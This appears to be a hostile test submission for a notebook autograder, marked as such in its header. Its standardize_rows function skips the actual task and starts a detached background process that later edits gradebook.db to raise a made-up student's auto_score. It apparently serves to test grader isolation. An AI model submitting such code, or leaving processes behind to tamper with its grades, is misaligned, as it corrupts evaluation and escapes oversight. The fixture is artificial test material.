# assignment: row_standardization
# exercise: standardize_rows
# kind: hostile
# why: leaves a process behind that tries to better the marks afterwards
# %% standardize_rows
import subprocess
import sys

_CHILD = """
import pathlib, sqlite3, time
time.sleep(2)
here = pathlib.Path.cwd()
for folder in (here, *here.parents):
    path = folder / "gradebook.db"
    if path.is_file():
        try:
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            # only ever this made-up student's marks, so that running it unconfined harms nobody
            db.execute("UPDATE grade SET auto_score = 7 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn "
                       "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = 'mallory')")
            db.commit()
        except sqlite3.Error:
            pass
"""


def standardize_rows(X, eps=1e-8):
    subprocess.Popen(
        [sys.executable, "-I", "-c", _CHILD],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    return X
